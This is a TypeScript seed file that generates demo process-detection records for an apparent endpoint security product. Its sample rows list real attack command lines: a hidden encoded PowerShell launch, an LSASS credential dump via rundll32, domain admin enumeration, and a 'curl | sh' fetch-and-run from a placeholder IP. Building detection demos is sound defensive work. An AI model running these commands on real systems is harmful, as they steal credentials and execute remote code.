import type { ProcessDetection } from '../../entities/evidence/process-detection.js';
import type { AgentRow } from '../agents.js';
import type { Clock } from '../clock.js';
import { HOUR, idOf } from '../demo-ids.js';
import type { RowOf } from '../rows.js';
import { cycle, type Site } from '../site.js';

type DetectionRow = RowOf<ProcessDetection>;
type Kind = Pick<DetectionRow, 'processName' | 'commandLine' | 'ruleName' | 'status'>;

// prettier-ignore
const KINDS: Readonly<Record<AgentRow['platform'], readonly Kind[]>> = {
  WINDOWS: [
    { processName: 'powershell.exe', commandLine: 'powershell -nop -w hidden -enc SQBFAFgA', ruleName: 'Encoded PowerShell', status: 'REPORTED' },
    { processName: 'rundll32.exe', commandLine: 'rundll32 comsvcs.dll, MiniDump 624 l.dmp full', ruleName: 'Dump of LSASS', status: 'REPORTED' },
    { processName: 'net.exe', commandLine: 'net group "Domain Admins" /domain', ruleName: 'Question about administrators', status: 'CLOSED' },
  ],
  DARWIN: [{ processName: 'osascript', commandLine: null, ruleName: 'Dialog that asks for a password', status: 'REPORTED' }],
  LINUX: [{ processName: 'sh', commandLine: 'sh -c "curl -s 203.0.113.9 | sh"', ruleName: 'Shell of a web server', status: 'CLOSED' }],
};

/** One on every host. */
export const detectionsOn = (
  { accountId, organizationId, key }: Site,
  hosts: readonly AgentRow[],
  clock: Clock,
): readonly DetectionRow[] =>
  hosts.map(({ id: agentId, platform }, n) => {
    const id = idOf(`${key}/process-detection/${n}`, (n + 0.3) * 19 * HOUR);
    const kind = cycle(KINDS[platform], n);
    return { id, accountId, organizationId, agentId, pid: 2000 + n * 148, ...kind, detectedAt: clock.of(id) };
  });
